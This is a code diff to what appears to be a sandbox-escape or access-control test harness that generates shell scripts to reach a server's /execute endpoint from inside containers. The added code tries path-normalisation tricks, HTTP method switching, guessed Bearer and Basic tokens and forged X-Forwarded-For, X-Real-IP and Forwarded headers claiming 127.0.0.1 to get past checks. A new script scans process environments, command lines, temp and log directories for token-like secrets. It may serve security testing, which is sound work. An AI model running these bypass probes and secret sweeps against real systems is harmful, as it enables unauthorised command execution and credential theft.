@@ -459,12 +459,13 @@ def clear(hex: str, folders: Iterable[str], roots: Iterable[str]) -> str:
     return _with({"hex": hex, "folders": "\n".join(dict.fromkeys(folders)), "roots": "\n".join(roots)}, _CLEAR)
 
 
-# Requests over HTTP, by whatever program an image or a node has for it; `authorization` is the header of that name.
+# Requests over HTTP, by whatever program an image or a node has for it; `authorization` is the header of that name, and
+# `extra` one more, whole. By python3 alone to a Unix socket, whose host is `unix:PATH`, with @ before an abstract name.
 _WAYS = r"""
 export LC_ALL=C
 say() { printf '%s\t%s\n' "$1" "$2"; }
 carriage=$(printf '\r')
-authorization=
+authorization= extra=
 in_url() { # a host
     case $1 in *:*) printf '[%s]' "$1" ;; *) printf %s "$1" ;; esac
 }
@@ -475,13 +476,14 @@ by_bash() { # method scheme host port path body
 Host: $(in_url "$3"):$4$carriage
 Content-Type: application/json$carriage
 ${authorization:+Authorization: $authorization$carriage
+}${extra:+$extra$carriage
 }Content-Length: ${#6}$carriage
 $carriage
 $6"
 }
 by_python3() {
-    authorization=$authorization timeout 5 python3 -c '
-import http.client, os, ssl, sys
+    authorization=$authorization extra=$extra timeout 5 python3 -c '
+import http.client, os, socket, ssl, sys
 method, scheme, host, port, path, body = sys.argv[1:]
 kind = http.client.HTTPConnection
 more = {}
@@ -490,8 +492,16 @@ if scheme == "https":
 headers = {"Content-Type": "application/json"}
 if os.environ["authorization"]:
     headers["Authorization"] = os.environ["authorization"]
-connection = kind(host, int(port), timeout=3, **more)
+if os.environ["extra"]:
+    name, _, value = os.environ["extra"].partition(": ")
+    headers[name] = value
+at = host[5:].replace("@", "\0", 1) if host.startswith("unix:") else ""
+connection = kind("localhost" if at else host, int(port), timeout=3, **more)
 try:
+    if at:
+        connection.sock = socket.socket(socket.AF_UNIX)
+        connection.sock.settimeout(3)
+        connection.sock.connect(at)
     connection.request(method, path, body.encode(), headers)
     answer = connection.getresponse()
 except OSError as error:
@@ -501,20 +511,22 @@ print(answer.read(2000).decode("latin-1"))
 ' "$@"
 }
 by_curl() {
-    curl -qgksS -i -m 3 --noproxy '*' -X "$1" -H 'Content-Type: application/json' \
-        ${authorization:+-H} ${authorization:+"Authorization: $authorization"} --data-binary "$6" \
+    curl -qgksS --path-as-is -i -m 3 --noproxy '*' -X "$1" -H 'Content-Type: application/json' \
+        ${authorization:+-H} ${authorization:+"Authorization: $authorization"} ${extra:+-H} ${extra:+"$extra"} \
+        --data-binary "$6" \
         "$2://$(in_url "$3"):$4$5"
 }
 by_wget() { # of the options that busybox knows too
     case $1 in POST) set -- "$@" "--post-data=$6" ;; esac
     timeout 5 wget -S -O /dev/null -T 3 ${7:+"$7"} --header='Content-Type: application/json' \
-        ${authorization:+"--header=Authorization: $authorization"} --no-check-certificate \
+        ${authorization:+"--header=Authorization: $authorization"} ${extra:+"--header=$extra"} --no-check-certificate \
         "$2://$(in_url "$3"):$4$5" 2>&1 | sed -n 's|.*\(HTTP/1\.[01] [0-9][0-9][0-9].*\)|\1|p'
 }
 by_nc() {
     [ "$2" = http ] || return 1
     printf '%s %s HTTP/1.0\r\nHost: %s:%s\r\nContent-Length: %s\r\n%s\r\n%s' "$1" "$5" "$(in_url "$3")" "$4" "${#6}" \
         "${authorization:+Authorization: $authorization$carriage
+}${extra:+$extra$carriage
 }" "$6" | timeout 3 nc "$3" "$4"
 }
 # Docker's bridge has the node at the gateway.
@@ -628,16 +640,18 @@ ADDRESSES = 8
 """So many addresses of a network are tried at most, beside those that are known."""
 
 _USE = r"""
+method=POST disguise=
 attempt() { # tool host port path body
     tries=$((tries + 1)) body=$5
     case $body in *@NEW@*) body=${body%%@NEW@*}$new.$tries${body#*@NEW@} ;; esac
-    answer=$(by_$1 POST http "$2" "$3" "$4" "$body" 2>&1 < /dev/null)
-    say tried "$tries $1 $2 $3 $4 $(printf %s "$answer" | tr '\n\r\t' '   ' | cut -c 1-1200)"
+    answer=$(by_$1 "$method" http "$2" "$3" "$4" "$body" 2>&1 < /dev/null)
+    say tried "$tries $1 $2 $3 $4$disguise $(printf %s "$answer" | tr '\n\r\t' '   ' | cut -c 1-1200)"
 }
 reach() { # host port
     case $reached in *" $1,$2 "*) return ;; esac
     reached="$reached $1,$2 "
     for tool in $tools; do
+        case "$1 $tool" in "unix:"*" python3") ;; "unix:"*) continue ;; esac
         attempt "$tool" "$1" "$2" /execute "$first"
         case $answer in
             HTTP/*) way=${way:-$tool $1 $2} ;;
@@ -668,8 +682,23 @@ if [ "$way" ]; then
 $others
 END
     if [ ! "$few" ]; then
-        authorization='Bearer sifproof'
-        attempt $way /execute "$first"
+        # Past one who looks at the path, the method, or where the request says that it comes from.
+        for path in //execute /execute/ /./execute; do attempt $way "$path" "$first"; done
+        for method in PUT PATCH GET; do
+            disguise="(by_$method)"
+            attempt $way /execute "$first"
+        done
+        attempt $way "$download" ''
+        method=POST
+        for authorization in 'Bearer sifproof' Bearer 'Basic c2lmcHJvb2Y6'; do
+            disguise="(Authorization:_${authorization%% *})"
+            attempt $way /execute "$first"
+        done
+        authorization=
+        for extra in 'X-Forwarded-For: 127.0.0.1' 'X-Real-IP: 127.0.0.1' 'Forwarded: for=127.0.0.1'; do
+            disguise="(${extra%%:*})"
+            attempt $way /execute "$first"
+        done
     fi
 fi
 while read -r file; do
@@ -688,6 +717,7 @@ def use(
     gateway_port: int | None,
     first: str,
     others: Iterable[tuple[str, str]],
+    download: str,
     new: str,
     few: bool = False,
     token_files: Iterable[str] = (),
@@ -696,7 +726,8 @@ def use(
 
     ``targets`` are hosts and ports; ``own_port`` is tried at the addresses of the network that the script runs in,
     ``gateway_port`` at its gateway. ``first``, a body of ``/execute``, is sent to each by each program; ``others``,
-    paths and bodies, to one that answered. ``@NEW@`` in them stands for a name that begins with ``new`` and ends with
+    paths and bodies, to one that answered, and then in disguise; ``download`` is what GET might fetch a file by.
+    A host may be ``unix:PATH``. ``@NEW@`` in them stands for a name that begins with ``new`` and ends with
     the number of the attempt. ``few``: by one program alone. It tells which of ``token_files`` can be read.
     """
     values = {
@@ -705,6 +736,7 @@ def use(
         "gateway_port": str(gateway_port or ""),
         "first": first,
         "others": "\n".join(f"{path} {body}" for path, body in others),
+        "download": download,
         "new": new,
         "few": "few" if few else "",
         "most": str(ADDRESSES),
@@ -722,6 +754,29 @@ def send(tool: str, host: str, port: str, path: str, body: str) -> str:
     """What sends one request, by a program of which :func:`use` told that it reaches the server."""
     request = " ".join(quote(word) for word in (host, port, path, body))
     return f"{_WAYS}by_{tool} POST http {request} 2>&1 < /dev/null\n:\n"
+
+
+# Every word that may be the token, by its length alone, and where it stands: the token itself is not told to a slot.
+_WORDS = r"""
+export LC_ALL=C
+words() { # where they stand
+    tr '\0' '\n' | grep -aoE "$like" | sort -u | head -n 100 | while read -r word; do echo "$1: $word"; done
+}
+{
+    env | words 'its own environment'
+    for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do words "/proc/PID/${file##*/}" < "$file"; done | sort -u
+    set -- . "$HOME" "${TMPDIR:-/tmp}" /tmp /var/tmp /dev/shm /run /var/log "$data"
+    find "$@" -xdev -maxdepth 3 -type f -size -65 | head -n 300 | while read -r file; do words "$file" < "$file"; done
+} 2>/dev/null | head -c 40000
+"""
+
+
+def list_words(length: int, characters: str, data: str) -> str:
+    """What lists in a slot the words of so many of the ``characters`` at least: in environments, command lines, files.
+
+    ``data`` is the server's data directory, for the case that the slot sees it.
+    """
+    return _with({"like": f"[{characters}]{{{length},}}", "data": data}, _WORDS)
 
 
 _AS_NOBODY = r"""
